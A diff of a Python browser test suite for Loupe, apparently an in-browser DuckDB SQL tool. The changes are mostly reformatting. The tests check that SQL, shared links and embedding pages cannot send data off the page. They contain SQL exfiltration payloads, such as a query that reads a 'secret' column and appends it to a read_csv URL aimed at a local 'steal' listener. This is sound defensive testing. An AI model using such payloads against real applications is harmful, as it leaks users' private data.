@@ -55,10 +55,13 @@ def assert_clear(statement, kind, message):
 
 
 def rejection(page, sql) -> str:
-    return page.evaluate("""async (sql) => {
+    return page.evaluate(
+        """async (sql) => {
         try { await loupe.query(sql); } catch (e) { return e.message; }
         return '';
-    }""", sql)
+    }""",
+        sql,
+    )
 
 
 def test_no_request_leaves_the_origin_in_normal_work(context, base_url):
@@ -104,7 +107,8 @@ def test_the_sql_editor_cannot_reach_the_network(booted, knocks):
 
 def test_a_second_wall_the_engine_worker_fetches_nothing_even_unlocked(booted, knocks):
     """DuckDB started in Loupe's worker wrapper, without the lock: its own HTTP reads are still refused."""
-    message = booted.evaluate("""async (url) => {
+    message = booted.evaluate(
+        """async (url) => {
         const duckdb = await import('duckdb');
         const worker = new Worker('./assets/js/duckdb-worker.js');
         const db = new duckdb.AsyncDuckDB(new duckdb.VoidLogger(), worker);
@@ -116,7 +120,9 @@ def test_a_second_wall_the_engine_worker_fetches_nothing_even_unlocked(booted, k
         const read = connection.query(`SELECT * FROM read_csv('${url}/unlocked.csv')`).then(() => 'read it', (e) => e.message);
         const late = new Promise((resolve) => setTimeout(() => resolve('no answer in 30 s'), 30000));
         try { return await Promise.race([read, late]); } finally { db.terminate(); }
-    }""", knocks.url)
+    }""",
+        knocks.url,
+    )
     assert "makes no network requests" in message or "IO Error" in message, message
     assert knocks.seen == []
 
@@ -178,6 +184,7 @@ def fresh_page(browser):
         context.set_default_timeout(BOOT_TIMEOUT_MS)
         contexts.append(context)
         return context.new_page()
+
     yield make
     for context in contexts:
         context.close()
@@ -188,17 +195,22 @@ def _link(page, base_url, sources, active):
     return base_url + "#state=" + page.evaluate("(text) => loupe._pack(text)", json.dumps(state))
 
 
-def test_a_link_whose_sql_reads_a_local_file_cannot_send_it_anywhere(booted, fresh_page, base_url, knocks,
-                                                                     tmp_path):
+def test_a_link_whose_sql_reads_a_local_file_cannot_send_it_anywhere(booted, fresh_page, base_url, knocks, tmp_path):
     """The link asks the visitor to open notes.csv, then runs SQL over it (and asks to run the rest: agreed to)."""
     target = knocks.url
-    stolen = ("SET VARIABLE s = (SELECT string_agg(secret, '-') FROM notes); "
-              "SELECT * FROM read_csv('" + target + "/steal?d=' || getvariable('s'))")
-    attacks = [stolen, "CREATE TABLE leak AS SELECT * FROM read_csv('" + target + "/n.csv?' || "
-               "(SELECT max(secret) FROM notes))"] + [statement for statement, _ in corpus(target)]
+    stolen = (
+        "SET VARIABLE s = (SELECT string_agg(secret, '-') FROM notes); "
+        "SELECT * FROM read_csv('" + target + "/steal?d=' || getvariable('s'))"
+    )
+    attacks = [
+        stolen,
+        "CREATE TABLE leak AS SELECT * FROM read_csv('" + target + "/n.csv?' || (SELECT max(secret) FROM notes))",
+    ] + [statement for statement, _ in corpus(target)]
     sources = [{"table": "notes", "kind": "file", "name": "notes.csv", "read": {"format": "csv"}}]
-    sources += [{"table": f"attack_{i}", "kind": "query", "name": f"attack_{i}", "read": {"sql": sql}}
-                for i, sql in enumerate(attacks)]
+    sources += [
+        {"table": f"attack_{i}", "kind": "query", "name": f"attack_{i}", "read": {"sql": sql}}
+        for i, sql in enumerate(attacks)
+    ]
     page = fresh_page()
     page.goto(_link(booted, base_url, sources, "notes"))
     _wait_boot(page)
@@ -250,6 +262,7 @@ def evil_host(tmp_path_factory):
     class Quiet(SimpleHTTPRequestHandler):
         def log_message(self, *args):
             pass
+
     root = tmp_path_factory.mktemp("evil")
     server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(root)))
     server.daemon_threads = True
@@ -271,11 +284,10 @@ def _framed(browser, evil_host, frame_url, allow_origin):
     return context, page, frame
 
 
-def test_a_parent_page_cannot_reach_the_network_or_change_tables(browser, base_url, evil_host, knocks,
-                                                                 allow_origin):
+def test_a_parent_page_cannot_reach_the_network_or_change_tables(browser, base_url, evil_host, knocks, allow_origin):
     context, page, frame = _framed(browser, evil_host, base_url + "embed.html", allow_origin)
     before = snapshot(frame)
-    for statement, kind in corpus(knocks.url):
+    for statement, _kind in corpus(knocks.url):
         reply = page.evaluate("(sql) => ask({type: 'loupe:query', sql})", statement)
         assert reply["type"] == "loupe:error", (statement, reply)
         assert reply["message"] and not any(word in reply["message"] for word in UNCLEAR), reply
@@ -283,8 +295,10 @@ def test_a_parent_page_cannot_reach_the_network_or_change_tables(browser, base_u
         reply = page.evaluate("(sql) => ask({type: 'loupe:query', sql})", statement)
         assert reply["type"] == "loupe:error" and "may only read" in reply["message"], (statement, reply)
     state = page.evaluate("ask({type: 'loupe:getView'})")["state"]
-    state["sources"] += [{"table": f"made_{i}", "kind": "query", "name": f"made_{i}", "read": {"sql": sql}}
-                         for i, sql in enumerate(CHANGES + ["SELECT * FROM read_csv('" + knocks.url + "/v.csv')"])]
+    state["sources"] += [
+        {"table": f"made_{i}", "kind": "query", "name": f"made_{i}", "read": {"sql": sql}}
+        for i, sql in enumerate(CHANGES + ["SELECT * FROM read_csv('" + knocks.url + "/v.csv')"])
+    ]
     reply = page.evaluate("(state) => ask({type: 'loupe:setView', state})", state)
     assert reply["type"] == "loupe:result", reply
     assert "may only read" in frame.locator("#error-text").inner_text()
@@ -298,8 +312,7 @@ def test_a_parent_page_cannot_reach_the_network_or_change_tables(browser, base_u
     context.close()
 
 
-def test_a_framed_loupe_asks_before_opening_the_visitors_file(browser, base_url, evil_host, tmp_path,
-                                                            allow_origin):
+def test_a_framed_loupe_asks_before_opening_the_visitors_file(browser, base_url, evil_host, tmp_path, allow_origin):
     context, page, frame = _framed(browser, evil_host, base_url + "embed.html", allow_origin)
     notes = tmp_path / "notes.csv"
     notes.write_text(NOTES)
